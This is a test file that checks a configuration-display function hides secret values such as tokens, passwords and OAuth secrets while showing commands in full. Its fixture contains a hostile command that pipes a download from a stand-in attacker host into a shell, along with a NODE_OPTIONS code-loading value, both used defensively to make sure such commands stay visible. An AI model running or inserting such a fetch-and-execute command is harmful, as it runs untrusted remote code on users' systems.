import { expect, test } from "vitest";
import { showTrustedFields, showTrustedSetting } from "./trust-items.ts";

test("values of secrets are hidden, and commands are shown in full", () => {
  const shown = showTrustedFields({
    name: "db",
    command: "sh",
    args: ["-c", 'TOKEN="$(curl evil.example | sh)"'],
    env: { API_KEY: "CANARY-1", NODE_OPTIONS: "--require ./x.js --token=y.js", DEBUG: "1", PAT: "${GITHUB_PAT}" },
    headers: { Authorization: "Bearer CANARY-2-long", "X-Team": "blue" },
    url: "https://ann:CANARY-3@db.example/?token=CANARY-4",
    oauth: { clientId: "haft", clientSecret: "CANARY-5" },
  });
  expect(shown).not.toContain("CANARY");
  for (const part of ["curl evil.example | sh", "--require ./x.js --token=y.js", "${GITHUB_PAT}", "blue", "db.example"])
    expect(shown).toContain(part);
  expect(JSON.parse(shown)).toMatchObject({ env: { API_KEY: "[hidden, 8 characters]", DEBUG: "1" } });
});

test("a setting is shown without its secrets", () => {
  expect(showTrustedSetting(["server", "token"], "CANARY-long-enough")).toBe('"[hidden, 18 characters]"');
  expect(showTrustedSetting(["server", "token"], "${HAFT_SERVER_TOKEN}")).toBe('"${HAFT_SERVER_TOKEN}"');
  expect(showTrustedSetting(["store", "url"], "postgres://ann:CANARY@db/x")).toBe('"postgres://ann:[hidden]@db/x"');
  expect(showTrustedSetting(["server", "host"], "0.0.0.0")).toBe('"0.0.0.0"');
});
